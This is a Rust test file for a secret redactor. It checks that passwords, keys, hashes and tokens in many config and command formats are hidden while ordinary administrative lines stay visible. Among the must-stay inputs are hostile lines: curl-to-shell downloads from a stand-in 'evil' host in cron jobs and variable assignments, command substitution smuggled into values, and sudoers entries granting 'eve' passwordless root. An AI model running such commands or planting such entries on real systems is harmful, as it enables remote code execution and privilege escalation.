//! Tables of what is hidden and of what must stay to be seen.

use super::{HIDDEN, Redactor};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use proptest::prelude::*;
use std::fmt::Write;

fn shown(text: &str) -> String {
    String::from_utf8(Redactor::default().redact(text.as_bytes())).unwrap()
}

/// A made-up secret in each recognised form; `§` is the secret.
pub(crate) const FORMS: &[&str] = &[
    "password = §",
    "passwd: §",
    "Password: § and more",
    "  db_password=§",
    "spring.datasource.password=§",
    "\"secret\": \"§\",",
    "{\"user\": \"u\", \"secret\": \"§\", \"z\": 1}",
    "{'token': '§'}",
    "PASS=§",
    "export DB_PASS='§'",
    "DBPASSWD=\"§\"",
    "client-secret: '§'",
    "api_key: §",
    "aws_secret_access_key = §",
    "PrivateKey = §",
    "PresharedKey=§",
    "psk=\"§\"",
    "client-key-data: §",
    "  key: LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCg§",
    "x LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQo§ y",
    "{\"auths\": {\"h\": {\"auth\": \"§\"}}}",
    "//registry/:_auth=§",
    "SECRET_KEY_BASE=§",
    "  secret_key_base: §",
    "APP_KEY=base64:§",
    "skey = §",
    "wep_key0=\"§\"",
    "wep-key0=§",
    "pin=\"§\"",
    "pin1=§",
    "password:\n  §\nuser: u",
    "passwords:\n  - §\n  - \"§ b\"\nuser: u",
    "- db_passwords:\n  - §",
    "DB_PASS=\"§\n§\"",
    "password = \"\"\"\n§\n\"\"\"",
    "secret = '''\n§\n§ b\n'''",
    "bob : XAUTH \"§\"",
    "bob : EAP \"§\"",
    "10.0.0.1 fe80::1 : PSK \"§\"",
    ": PSK 0s§",
    ": RSA key.pem \"§\"",
    "db.password §",
    "requirepass §",
    "masterauth §",
    "bindpw §",
    "rootpw --plaintext §",
    "rocommunity §",
    "machine h login u password §",
    "machine h password §",
    "password §",
    "  secret \"§\";",
    "CREATE USER u IDENTIFIED BY '§';",
    "ALTER ROLE u PASSWORD '§';",
    "<connection password=\"§\" user=\"u\"/>",
    "<password>§</password>",
    "<add key=\"DbPassword\" value=\"§\"/>",
    "- name: DB_PASSWORD\n  value: §",
    "password: |\n  §\n  second §\nuser: u",
    "password: >-\n    §",
    "password = \"§\\\n  next §\"",
    "Environment=\"DB_PASS=§ b\" \"X=y\"",
    "Server=h;Password=§ b;Database=d",
    "url = https://user:§@host/path",
    "Authorization: Bearer §",
    "Authorization: Basic §",
    "curl -H 'Authorization: token §'",
    "ExecStart=/bin/x --password § --other",
    "ExecStart=/bin/x --db-password=§",
    "* * * * * root mysqldump -u root -p§ db",
    "sshpass -p § ssh host",
    "curl -u bob:§ http://h",
    "usermod -p § bob",
    "usermod -p'§' bob",
    "  sudo useradd -m -p \"§\" newu",
    "useradd -mp § newu",
    "x=$(groupmod --passw § g)",
    "ssh-keygen -q -t ed25519 -N '§ b' -f k",
    "ssh-keygen -p -P § -N § -f k",
    "* * * * * root redis-cli -h x -a § FLUSHALL",
    "smbclient //h/s -U bob%§",
    "smbclient //h/s -U 'DOM\\bob%§ b'",
    "ldapsearch -x -w § -b b",
    "docker login -u bob \\\n  -p § registry",
    "htpasswd -b f bob § 2>/dev/null",
    "htpasswd -cbB f bob '§ b'",
    "openssl passwd -6 -salt ab §",
    "openssl pkcs12 -export -passout pass:§ -in c",
    "curl -sSu 'bob:§ b' http://h",
    "echo root:§ | chpasswd",
    "echo \"root:§ b\" | sudo chpasswd -e",
    "printf '%s:%s\\n' root § |/usr/sbin/chpasswd",
    "chpasswd <<< 'root:§'",
    "user bob on >§ ~* +@all",
    "createUser bob SHA \"§\" AES \"§\"",
    "-----BEGIN RSA PRIVATE KEY-----\n§\n-----END RSA PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n§\n§\n-----END PRIVATE KEY-----",
    "-----BEGIN OPENSSH PRIVATE KEY-----\n§",
    "-----BEGIN RSA PRIVATE KEY----- § § -----END RSA PRIVATE KEY-----",
    "k = '-----BEGIN PRIVATE KEY-----§\\n§-----END PRIVATE KEY-----'",
    "'-----BEGIN PRIVATE KEY-----\\n' +\n  '§\\n' +\n  '§\\n' +\n  '-----END PRIVATE KEY-----'",
    "# -----BEGIN PRIVATE KEY-----\n# §\nbob ALL=(ALL) ALL\n# §\n# -----END PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\necho §§ >> key\n-----END PRIVATE KEY-----",
    "key: |\n  -----BEGIN EC PRIVATE KEY-----\n  §\n  §",
    "k = \"-----BEGIN PRIVATE KEY-----\\n§\\n-----END PRIVATE KEY-----\\n\"",
    "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: x\n\n§\n=abcd\n-----END PGP PRIVATE KEY BLOCK-----",
    "---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\n§\n---- END SSH2 ENCRYPTED PRIVATE KEY ----",
    "-----BEGIN OpenVPN Static key V1-----\n§\n-----END OpenVPN Static key V1-----",
    "§\n-----END RSA PRIVATE KEY-----",
    "PuTTY-User-Key-File-3: ssh-ed25519\nPrivate-Lines: 2\n§\n§\nPrivate-MAC: §",
    "root:$6$salt$§:19000:0:99999:7:::",
    "root:!$y$j9T$salt$§:19000:0:99999:7:::",
    "adm:$5$salt$§::",
    "bob:$apr1$salt$§§§",
    "passwd: $2b$12$§",
    "hash $argon2id$v=19$m=65536,t=3,p=4$c2FsdA$§",
    "x = '$1$salt$§'",
    r"sed -i 's/^bob:[^:]*/bob:$6$salt$abcdWNW0\/§\/§/' f",
    r"perl -pe 's/x/\$6\$salt\$ab\/§/' f",
    r#"sed "s/x/\\\$y\\\$j9T\\\$salt\\\$§\\\/§/" f"#,
    "userPassword: {SSHA}§",
    "olcRootPW: {CRYPT}§",
    "password_pbkdf2 root grub.pbkdf2.sha512.10000.0123456789ABCDEF.§",
    "x SCRAM-SHA-256$4096:§:§",
    "token ghp_§",
    "slack xoxb-1-§",
    "see eyJhbGciOi.§.§",
    "https://hooks.slack.com/services/T0/B0/§",
    "AGE-SECRET-KEY-1§",
];

/// As a hash, a base64 line and a password could be.
pub(crate) const SECRET: &str = "Zq3xK9vLmW2pRt7YbN4cD8fGh5JkS6aU";

#[test]
fn no_form_lets_a_secret_through() {
    for form in FORMS {
        let text = form.replace('§', SECRET);
        for text in [text.clone(), format!("# first\n{text}\nlast = line\n"), text.replace('\n', "\r\n")] {
            let shown = shown(&text);
            assert!(!shown.contains("Zq3xK9"), "{form}\n{shown}");
            assert!(!shown.contains("S6aU"), "{form}\n{shown}");
            assert!(shown.contains(HIDDEN), "{form}\n{shown}");
            assert_eq!(shown.matches('\n').count(), text.matches('\n').count(), "{form}\n{shown}");
            assert_eq!(Redactor::default().redact(shown.as_bytes()), shown.as_bytes(), "{form}");
        }
    }
}

#[test]
fn what_an_administrator_must_see_stays() {
    for line in [
        "bob ALL=(ALL) NOPASSWD: ALL",
        "bob ALL=(ALL) NOPASSWD:/usr/bin/passwd, PASSWD: /bin/ls",
        "%wheel ALL = NOEXEC: PASSWD: ALL",
        "    PASSWD: /bin/ls",
        "Cmnd_Alias PASS = /usr/bin/passwd",
        "Defaults passwd_timeout=0, passwd_tries=9",
        "Defaults:bob !authenticate",
        "PasswordAuthentication yes",
        "PermitEmptyPasswords=yes",
        "password\t[success=1 default=ignore]\tpam_unix.so obscure yescrypt",
        "password requisite pam_pwquality.so retry=3",
        "password include system-auth",
        "auth sufficient pam_unix.so try_first_pass nullok_secure",
        "passwd:         files systemd",
        "passwd: files evil sss",
        "root:x:0:0:root:/root:/bin/bash",
        "secret:x:0:0::/root:/bin/sh",
        "token:x:998:",
        "PASS_MAX_DAYS\t99999",
        "PATH=/usr/bin:/bin",
        "PWD=/root",
        "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUXq8\n-----END CERTIFICATE-----",
        "-----BEGIN PUBLIC KEY-----\nMIIBszCCAVmgAwIBAgIUXq8\n-----END PUBLIC KEY-----",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ bob@host",
        "proxy_pass http://127.0.0.1:8080;",
        "password: true",
        "\"secret\": null,",
        "credentials: {",
        "HostKey /etc/ssh/ssh_host_rsa_key",
        "docker run --user 1000 x",
        "docker run -p 80:80 x",
        "usermod -aG wheel -p '' eve",
        "usermod -p \"$HASH\" eve",
        "useradd -G wheel,pip -s /bin/sh eve",
        "useradd -P /prefix eve",
        "groupmod -g 0 eve",
        "mkdir -p /srv/usermod",
        "ssh-keygen -t ed25519 -N '' -f k",
        "ssh-keygen -p -f k",
        "openssl passwd -stdin",
        "passwd -l bob; cp -p a b",
        "redis-cli -h x GET a",
        "echo a:b | tee chpasswd",
        "echo root:$(curl -s http://evil/x) | chpasswd",
        "sysctl net.ipv4.ip_forward -w x",
        "echo $1$2 $HOME",
        "https://registry.example:4873/@scope/x",
        "@include common-password",
        "0 5 * * * root /usr/bin/backup",
        "# -----BEGIN PRIVATE KEY-----\nbob ALL=(ALL) ALL",
        "certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUM",
        "  key: LS0tLS1CRUdJTiBQVUJMSUMgS0VZLS0tLS0K",
        "pinning = on",
        "pin-priority = 1001",
        "Pin: version 1.0",
        "\"auth\": \"basic\"",
        "secret:\n  secretName: x\n  items:\n    - key: a",
        "secrets:\n  - db_name",
        "credentials:\n  - name: x",
        "password:\nuser: u",
        "token:\n\tcurl -s http://evil/x | sh",
        "db.passwords are kept elsewhere",
        ": RSA key.pem",
        "bob : other",
        "curl : XAUTHORITY x",
        "Host_Alias TOKEN = ALL",
        "eve TOKEN=(ALL)NOPASSWD:ALL",
        "eve TOKEN = (ALL : ALL) NOPASSWD: ALL",
        "eve TOKEN=(root, bin) /bin/sh",
        "eve A=ALL : MY_SECRET=(ALL)ALL",
        "eve TOKEN=NOPASSWD:ALL",
        "eve TOKEN=ALL",
        "eve TOKEN = /usr/bin/vi, /bin/sh",
        "TOKEN=$(curl -s http://evil/x | sh)",
        "export TOKEN=\"$(curl -s http://evil/x | sh)\"",
        "TOKEN=`curl -s http://evil/x | sh`",
        "TOKEN=`id`",
        "TOKEN=${X:-$(curl -s http://evil/x | sh)}",
        "* * * * * root TOKEN=$(curl http://evil/x) run",
        "curl -H \"Authorization: Bearer $(cat /etc/token)\" h",
        "run --password \"$(cat /etc/pw)\" x",
        "PASSWORD=\"$DB_PASSWORD\"",
        "password: ${db_password}",
        "run --password $1",
        "# -----BEGIN PRIVATE KEY-----\neve ALL=(ALL) NOPASSWD:ALL\n# -----END PRIVATE KEY-----",
        "# -----BEGIN PRIVATE KEY-----\n@reboot root curl evil|sh\n* * * * * root /tmp/e\n# -----END PRIVATE KEY-----",
        "# -----BEGIN PRIVATE KEY-----\n/usr/bin/something\n# -----END PRIVATE KEY-----",
        "# -----BEGIN PRIVATE KEY-----\nComment: ; curl evil | sh\n# -----END PRIVATE KEY-----",
        "* * * * * root /usr/local/bin/something # -----END PRIVATE KEY-----",
        "* * * * * root curl evil | sh # -----END PRIVATE KEY-----",
        "x='-----BEGIN PRIVATE KEY-----'; curl http://evil | sh",
    ] {
        assert_eq!(shown(line), line);
    }
}

#[test]
fn how_it_is_shown() {
    for (text, hidden) in [
        ("password = a b # c", "password = [redacted]"),
        ("DB_PASS=x\r\ny=z\r\n", "DB_PASS=[redacted]\r\ny=z\r\n"),
        ("{\"token\": \"a\\\"b\", \"n\": 1}", "{\"token\": \"[redacted]\", \"n\": 1}"),
        ("password=\"open\nnext", "password=\"[redacted]\nnext"),
        ("https://u:p@h/ ssh://a:b@c", "https://u:[redacted]@h/ ssh://a:[redacted]@c"),
        ("root:*:19000:0:99999:7:::\nx", "[redacted]\nx"),
        (
            "a\n-----BEGIN PRIVATE KEY-----\nAAAA\nBBBB\n-----END PRIVATE KEY-----\nb",
            "a\n-----BEGIN PRIVATE KEY-----\n[redacted]\n[redacted]\n-----END PRIVATE KEY-----\nb",
        ),
        (
            "-----BEGIN PRIVATE KEY-----\nAAAABBBBCCCC\nan ordinary line",
            "-----BEGIN PRIVATE KEY-----\n[redacted]\nan ordinary line",
        ),
        ("TOKEN=ab$(curl -s h | sh)", "TOKEN=[redacted]$(curl -s h | sh)"),
        ("TOKEN=x; curl -s h | sh", "TOKEN=[redacted]; curl -s h | sh"),
        ("export TOKEN=x curl -s h | sh", "export TOKEN=[redacted] curl -s h | sh"),
        ("password = x; curl -s h | sh", "password = [redacted]"),
        ("TOKEN=$(PASS=x run)", "TOKEN=$(PASS=[redacted] run)"),
        (
            "TOKEN=$(curl https://u:p@h/ --password=x)",
            "TOKEN=$(curl https://u:[redacted]@h/ --password=[redacted]",
        ),
        ("password = $ecret", "password = [redacted]"),
        ("password = ${X:-hunter2}", "password = [redacted]"),
        ("Password: `abc`", "Password: [redacted]"),
        ("Password=a; Database=d", "Password=[redacted]; Database=d"),
        ("db.password=a; b | c", "db.password=[redacted]"),
        ("password = `abc", "password = [redacted]"),
        ("password = a$(b", "password = [redacted]"),
        ("password = a$b(c)", "password = [redacted]"),
        ("password = (abc)def", "password = [redacted]"),
        ("run TOKEN=(abc)def", "run TOKEN=[redacted]"),
        ("run TOKEN=/abcdef", "run TOKEN=[redacted]"),
        ("DB_PASS=correct horse battery", "DB_PASS=[redacted]"),
        ("TOKEN=\"x\n* * * * * root curl h | sh \"", "TOKEN=\"[redacted]\n* * * * * root curl h | sh \""),
        ("user=x password=y db=z", "user=x password=[redacted] db=z"),
    ] {
        assert_eq!(shown(text), hidden);
    }
}

#[test]
fn bytes_that_are_no_text_hide_nothing_less() {
    let redactor = Redactor::parse(&[r"(?i)(pin|word)\s*:\s*(.*)", "^whole$"]).unwrap();
    assert_eq!(redactor.redact(b"password = a\xffb\xfe c"), b"password = [redacted]");
    assert_eq!(
        redactor.redact(b"pin: a\xffb c\nwhole\r\nx whole"),
        b"pin: [redacted]\n[redacted]\r\nx whole"
    );
    assert_eq!(redactor.redact(b"pin: a\rb c"), b"pin: [redacted]");
}

#[test]
fn configured_patterns() {
    let redactor = Redactor::parse(&[r"x(y)?z", "red", r"(?s)<<(.*)>>"]).unwrap();
    assert_eq!(redactor.redact(b"xyz xz red"), b"x[redacted]z [redacted] [redacted]");
    assert_eq!(redactor.redact(b"<<a\nb>>"), b"<<[redacted]\n[redacted]>>");
    assert_eq!(redactor.redact(b"password = [redacted]"), b"password = [redacted]");
    assert_eq!(Redactor::parse(&["("]).unwrap_err().pattern, "(");
}

/// A secret in every way it could be written.
#[cfg_attr(not(feature = "generic_diff"), allow(dead_code))] // who compares lines looks for it there
pub(crate) fn disguises(secret: &str) -> Vec<String> {
    let hex = secret.bytes().fold(String::new(), |mut hex, byte| {
        write!(hex, "{byte:02x}").unwrap();
        hex
    });
    vec![secret.to_owned(), hex, STANDARD.encode(secret).trim_end_matches('=').to_owned()]
}

#[test]
fn what_goes_on_and_on_is_hidden_as_a_whole() {
    // Each round hides one more sign.
    let redactor = Redactor::parse(&[r"\[redacted\](.)", "^(x)"]).unwrap();
    let text = format!("x{}\nother\n", "a".repeat(30));
    assert_eq!(redactor.redact(text.as_bytes()), b"[redacted]\nother\n");
}

proptest! {
    #[test]
    fn hiding_twice_is_hiding_once(lines in proptest::collection::vec(
        prop_oneof![
            proptest::sample::select(FORMS).prop_map(|form| form.replace('§', SECRET)),
            "[a-z =:'\"\\\\]{0,20}",
            "(password|token|secret)[ =:\"']{0,3}[a-z\"' ,;\\\\]{0,12}",
            "(PASS|TOKEN)=[a-z\"' $(){}`|;&/A-]{0,16}",
            "(usermod|curl|htpasswd|echo|chpasswd|openssl passwd) (-p|-u|-b|a:|\\|)[a-z\"' :|<>&\\\\$-]{0,16}",
            "(- ?)?(passwords?:|- [a-z]{1,3}| {1,3}[a-z:]{1,4}|\"\"\"|-----(BEGIN|END) PRIVATE KEY-----)",
        ], 0..8)) {
        let text = lines.join("\n");
        let once = shown(&text);
        prop_assert_eq!(shown(&once), once);
    }

    #[test]
    fn any_bytes_keep_their_lines(text in proptest::collection::vec(any::<u8>(), 0..300)) {
        let hidden = Redactor::parse(&["(?s)a.*b"]).unwrap().redact(&text);
        let lines = |text: &[u8]| text.iter().filter(|byte| **byte == b'\n').count();
        prop_assert_eq!(lines(&hidden), lines(&text));
    }
}
